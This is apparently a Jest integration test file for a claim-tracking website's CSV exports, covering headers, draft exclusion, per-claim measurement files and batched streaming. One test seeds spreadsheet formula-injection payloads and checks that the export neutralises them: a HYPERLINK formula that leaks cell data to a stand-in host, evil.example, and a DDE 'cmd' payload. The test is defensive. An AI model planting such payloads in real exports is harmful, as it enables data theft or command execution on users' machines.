import request from 'supertest';
import { ClaimModel } from '../../../models/claim.model';
import { MeasurementModel } from '../../../models/measurement.model';
import { UpdateModel } from '../../../models/update.model';
import { refreshClaimTracking } from '../../../server/services/claim-tracking.service';
import { publishedClaimBatches } from '../../../server/services/open-data.service';
import { testConfig } from '../../helpers/app';
import { csvRecords } from '../../helpers/csv';
import { startSeededApp, TEST_NOW, type SeededApp } from '../../helpers/seeded-app';

const SITE_URL = testConfig().siteUrl;
const DARMANIN = 'darmanin-182000-faux-pass-sanitaires';

let seeded: SeededApp;
beforeAll(async () => {
  seeded = await startSeededApp();
});
afterAll(async () => {
  await seeded.close();
});

async function getCsv(path: string) {
  const res = await request(seeded.app).get(path);
  expect(res.status).toBe(200);
  expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
  expect(res.headers['cache-control']).toBe('public, max-age=60');
  return res;
}

describe('GET /claims.csv', () => {
  it('when the export is downloaded, then it is an attachment with the documented header and one row per published claim', async () => {
    const res = await getCsv('/claims.csv');
    expect(res.headers['content-disposition']).toBe('attachment; filename="ecart-claims.csv"');
    expect(res.text.split('\r\n')[0]).toBe(
      '\uFEFFslug,url,title,speaker,speakerSlug,saidAt,saidAtPrecision,kind,announcedValue,unit,currency,dueAt,duePrecision,definition,verdict,' +
        'measuredValue,measuredUnit,measuredProxy,measuredAsOf,percentRealised,factor,sourceOutlet,sourceTitle,sourceUrl',
    );
    const { records } = csvRecords(res.text);
    const published = await ClaimModel.find({ status: 'published' }).sort({ saidAt: 1, _id: 1 }).lean();
    expect(records.map((r) => r.slug)).toEqual(published.map((c) => c.slug));
    expect(records.find((r) => r.slug === DARMANIN)).toMatchObject({
      url: `${SITE_URL}/claims/${DARMANIN}`,
      speaker: 'Gérald Darmanin',
      saidAt: '2021-12-19T23:00:00.000Z',
      kind: 'count',
      announcedValue: '182000',
      unit: 'faux pass sanitaires',
      verdict: 'misleading',
      measuredValue: '3601',
      measuredUnit: 'pass sur liste noire',
      measuredProxy: 'true',
      measuredAsOf: '2021-12-28T23:00:00.000Z',
      percentRealised: '1.98',
      factor: '50.54',
      sourceOutlet: 'Numerama',
    });
    // A claim not measured yet has blank measured cells, not zeros.
    expect(records.find((r) => r.slug === 'attal-plan-100-millions-cyberattaques')).toMatchObject({ measuredValue: '', percentRealised: '', factor: '' });
  });

  it('when a claim is a draft, then it is not in the export', async () => {
    await ClaimModel.updateOne({ slug: DARMANIN }, { $set: { status: 'draft' } });
    try {
      const { records } = csvRecords((await getCsv('/claims.csv')).text);
      expect(records.map((r) => r.slug)).not.toContain(DARMANIN);
      expect(records).toHaveLength(await ClaimModel.countDocuments({ status: 'published' }));
      expect((await request(seeded.app).get(`/claims/${DARMANIN}/measurements.csv`)).status).toBe(404);
    } finally {
      await ClaimModel.updateOne({ slug: DARMANIN }, { $set: { status: 'published' } });
    }
  });

  it('when the claim page and the exports are asked for, then each route answers its own address', async () => {
    const page = await request(seeded.app).get(`/claims/${DARMANIN}`);
    expect(page.status).toBe(200);
    expect(page.type).toBe('text/html');
    expect((await request(seeded.app).get('/claims/no-such-claim/measurements.csv')).status).toBe(404);
  });
});

describe('GET /claims/:slug/measurements.csv', () => {
  it('when the 182 000 claim’s measurements are downloaded, then both blacklist counts are there as proxies', async () => {
    const res = await getCsv(`/claims/${DARMANIN}/measurements.csv`);
    expect(res.headers['content-disposition']).toBe(`attachment; filename="ecart-${DARMANIN}-measurements.csv"`);
    const { header, records } = csvRecords(res.text);
    expect(header).toEqual([
      'id',
      'value',
      'unit',
      'definition',
      'proxy',
      'delivered',
      'deliveredAt',
      'asOf',
      'asOfPrecision',
      'sourceOutlet',
      'sourceTitle',
      'sourceUrl',
      'sourcePublishedAt',
      'sourcePublishedPrecision',
      'methodNotes',
    ]);
    const claim = await ClaimModel.findOne({ slug: DARMANIN }).lean();
    const stored = await MeasurementModel.find({ claim: claim!._id }).sort({ asOf: 1, _id: 1 }).lean();
    expect(records.map((r) => r.id)).toEqual(stored.map((m) => String(m._id)));
    expect(records).toMatchObject([
      { value: '3307', unit: 'pass sanitaires sur liste noire', proxy: 'true', delivered: '', asOf: '2021-12-19T23:00:00.000Z', asOfPrecision: 'day', sourceOutlet: 'Numerama', sourcePublishedPrecision: 'month' },
      { value: '3601', unit: 'pass sur liste noire', definition: 'pass sanitaires sur liste noire', proxy: 'true', asOf: '2021-12-28T23:00:00.000Z' },
    ]);
    expect(records[1]!.methodNotes).toBe(stored[1]!.methodNotes);
  });
});

describe('formula injection', () => {
  it('when stored text starts like a formula, then its cell starts with an apostrophe, and a negative figure stays a number', async () => {
    const template = await ClaimModel.findOne({ slug: 'attal-plan-100-millions-cyberattaques' }).lean();
    const hostile = await ClaimModel.create({
      ...template,
      _id: undefined,
      slug: 'csv-test-hostile',
      title: '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
      saidAt: new Date('2030-01-01T00:00:00Z'),
      announced: { kind: 'count', value: 100, unit: '+33 numéros', definition: '@SUM(A1:A9)' },
      status: 'published',
    });
    const measurement = await MeasurementModel.create({
      claim: hostile._id,
      value: -12,
      asOf: new Date('2030-02-01T00:00:00Z'),
      definition: '-2+3+cmd|\' /C calc\'!A0',
      sameQuantity: true,
      source: { outlet: '\t=1+1', publishedPrecision: 'day' },
      methodNotes: '\r=1+1',
    });
    await refreshClaimTracking(hostile._id, null, TEST_NOW, 'Europe/Paris');
    try {
      const claims = await getCsv('/claims.csv');
      const row = csvRecords(claims.text).records.find((r) => r.slug === 'csv-test-hostile');
      expect(row).toMatchObject({
        title: '\'=HYPERLINK("http://evil.example/?x="&A1,"clic")',
        unit: "'+33 numéros",
        definition: "'@SUM(A1:A9)",
        announcedValue: '100',
        measuredValue: '-12',
        percentRealised: '-12',
        // Signs differ: no "times as much" reading.
        factor: '',
      });
      // The number is written bare, so a spreadsheet reads it as -12, not as text.
      expect(claims.text).toContain(',-12,');

      // The schema trims text, so the leading tab and carriage return never reach the export
      // (the unit tests cover them); what is left still starts with "=".
      const stored = await MeasurementModel.findById(measurement._id).lean();
      expect([stored!.source.outlet, stored!.methodNotes]).toEqual(['=1+1', '=1+1']);
      const { records } = csvRecords((await getCsv('/claims/csv-test-hostile/measurements.csv')).text);
      expect(records).toEqual([
        expect.objectContaining({
          value: '-12',
          unit: "'+33 numéros",
          definition: "'-2+3+cmd|' /C calc'!A0",
          sourceOutlet: "'=1+1",
          methodNotes: "'=1+1",
        }),
      ]);
    } finally {
      await MeasurementModel.deleteOne({ _id: measurement._id });
      await UpdateModel.deleteMany({ claim: hostile._id });
      await ClaimModel.deleteOne({ _id: hostile._id });
    }
  });
});

describe('the streamed claims export', () => {
  it('when the claims are read in batches, then every published claim comes once, in the export order, a batch at a time', async () => {
    const batches: string[][] = [];
    for await (const batch of publishedClaimBatches(4)) batches.push(batch.map((c) => c.slug));
    const expected = (await ClaimModel.find({ status: 'published' }).sort({ saidAt: 1, _id: 1 }).lean()).map((c) => c.slug);
    expect(expected.length).toBeGreaterThan(8);
    expect(batches.every((b) => b.length <= 4)).toBe(true);
    expect(batches.slice(0, -1).every((b) => b.length === 4)).toBe(true);
    expect(batches.flat()).toEqual(expected);
    const first = await publishedClaimBatches(4).next();
    expect(first.done).toBe(false);
    expect(first.value?.[0]?.speaker).toHaveProperty('name');
  });
});
